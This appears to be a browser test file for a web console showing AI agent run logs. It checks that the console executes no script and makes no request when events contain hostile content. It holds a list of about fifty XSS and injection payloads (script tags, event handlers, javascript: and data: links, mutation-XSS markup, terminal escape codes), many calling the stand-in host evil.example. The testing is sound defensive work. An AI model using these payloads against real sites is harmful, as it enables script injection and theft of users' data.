import { randomUUID } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import type { Database } from '../../src/data/database.ts'
import { sessions } from '../../src/demo/identities.ts'
import { chromiumPath } from './browser.ts'
import { setUpDemoConsole } from './set-up.ts'

const act = `self.pwned=1;fetch('https://evil.example/')`
const address = 'https://evil.example/x.png'

/** Markup, links, pictures, templates and terminal codes that run a script, or send a request, where they are believed. */
const payloads = [
  `<script>${act}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror="${act}">`,
  `<img src="${address}">`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/>`,
  `<style>@import 'https://evil.example/x.css';*{background:url(${address})}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button autofocus onfocus="${act}">x</button></form>`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<video><source onerror="${act}"></video>`,
  `<audio src=https://evil.example/x.mp3 autoplay>`,
  `<body onload="${act}">`,
  `<a href="javascript:${act}">x</a>`,
  `<template><img src=x onerror="${act}"></template>`,
  `[link](javascript:${act})`,
  `[link](JaVaScRiPt:${act})`,
  `[link](java\nscript:${act})`,
  `[link](&#106;avascript:${act})`,
  `[link](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `[link](vbscript:${act})`,
  `[link](//evil.example/)`,
  `[link](https://evil.example/ "onmouseover=${act}")`,
  `<javascript:${act}>`,
  `![picture](${address})`,
  `![picture](javascript:${act})`,
  `![picture](data:image/svg+xml,<svg onload="${act}"/>)`,
  `![a"onerror="${act}](${address})`,
  `[![x](${address})](javascript:${act})`,
  `[ref]\n\n[ref]: javascript:${act}`,
  `| a | b |\n|---|---|\n| <img src=x onerror="${act}"> | [x](javascript:${act}) |`,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `\`\`\`"onload="${act}\nx\n\`\`\``,
  `- [ ] <img src=x onerror="${act}">`,
  `"><img src=x onerror="${act}">`,
  `'-${act}-'`,
  `\${${act}}{{constructor.constructor('${act}')()}}`,
  `]]>\u2028<script>${act}</script>`,
  `\u001b[31m<script>${act}</script>\u001b[0m`,
  `\u001b]8;;javascript:${act}\u0007link\u001b]8;;\u0007`,
] as const

const count = 1_000

/** Puts each payload, in turn, into every place of an event that people see. */
async function addHostileRun(database: Pick<Database, 'query'>): Promise<string> {
  const run = randomUUID()
  await database.query(
    `insert into run_tasks (id, session_id, task_type, status, error_message, data)
     values ($1, $2, 'media_generation', 'failed', $3, $4)`,
    [run, sessions.research, payloads[0], { text: payloads[2] }],
  )
  await database.query('update sessions set name = $2 where id = $1', [sessions.research, payloads[2]])
  const rows = Array.from({ length: count }, (_, index) => {
    const payload = `${payloads[index % payloads.length]} ${index}`
    const types = ['agent.response', 'agent.tool.call', 'agent.tool.result', payload.slice(0, 90)]
    const tool = { tool_call_id: payload, tool_name: payload, tool_display_name: payload, tool_logo: address }
    const text = Math.floor(index / payloads.length) % 2 === 0 ? { text: payload } : {}
    const content = {
      ...tool,
      ...text,
      agent_name: payload,
      is_sub_agent_event: true,
      tool_input: { [payload]: payload, old_string: payload, new_string: `${payload}!` },
      result: index % 3 === 0 ? payload : [{ [payload]: payload }],
      is_error: true,
    }
    return { type: types[Math.floor(index / payloads.length) % types.length], content }
  })
  await database.query(
    `insert into application_events (event_type, event_group, session_id, run_id, content)
     select r.type, 'agent', $2, $1, r.content from json_to_recordset($3::json) r(type text, content json)`,
    [run, sessions.research, JSON.stringify(rows)],
  )
  return run
}

describe.skipIf(!chromiumPath)('hostile content', { timeout: 240_000 }, () => {
  const site = setUpDemoConsole()

  it(`runs no script and sends no request, in ${count} entries and their details`, async () => {
    const run = await addHostileRun(site.database)
    const { page, problems } = await site.open()
    await page.goto('/console/sessions')
    await page.locator('.session-rows li').first().waitFor()
    await page.goto(`/console/runs/${run}`)
    const log = page.locator('.log')
    await page.locator('.row[data-key]').first().waitFor()
    await page.getByText(/Ended: 1,00\d entries$/).waitFor()
    await log.focus()
    await page.keyboard.press('Home')
    const seen = new Set<string | null>()
    // Each payload in each type of event: a text, a call, a result, an unknown type.
    for (let row = 0; row < payloads.length * 4; row += 1) {
      await log.focus()
      await page.keyboard.press('ArrowDown')
      const all = page.getByRole('button', { name: /Everything in this event/ })
      await all.or(page.locator('.details p:not(.soft)')).first().waitFor()
      if (await all.isVisible()) await all.click()
      seen.add(await page.locator('.details').innerText())
    }
    for (let place = 0; place <= 20; place += 1) {
      await log.evaluate((element, part) => {
        element.scrollTop = element.scrollHeight * part
      }, place / 20)
    }
    await page.getByLabel('Find in everything').fill('<script>')
    await page.getByText(/\d+ rows/).waitFor()
    expect(seen.size).toBeGreaterThan(payloads.length * 3)
    expect(await page.evaluate(() => (self as { pwned?: unknown }).pwned)).toBeUndefined()
    expect(problems).toEqual([])
    expect(
      await page.locator('img, iframe, object, embed, video, audio, form, base, #root style').count(),
    ).toBe(0)
  })

  it('gives links out of texts no way back, and loads pictures on a click alone', async () => {
    const run = randomUUID()
    await site.database.query(
      `insert into run_tasks (id, session_id, task_type, status) values ($1, $2, 'media_generation', 'completed')`,
      [run, sessions.website],
    )
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
    const text = `[a link](https://example.org/page) [none](javascript:alert(1)) ![dot](${pixel})`
    await site.database.query(
      `insert into application_events (event_type, event_group, session_id, run_id, content)
       values ('agent.response', 'agent', $2, $1, $3)`,
      [run, sessions.website, { text }],
    )
    const { page, problems } = await site.open()
    await page.goto(`/console/runs/${run}`)
    await page.locator('.row.agent[data-key]').click()
    const links = page.locator('.details a')
    await links.first().waitFor()
    expect(await links.count()).toBe(1)
    expect(await links.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(await links.getAttribute('target')).toBe('_blank')
    expect(await page.locator('.details img').count()).toBe(0)
    await page.getByRole('button', { name: /Show picture “dot”/ }).click()
    await page.locator('.details img').waitFor()
    expect(problems).toEqual([])
  })
})
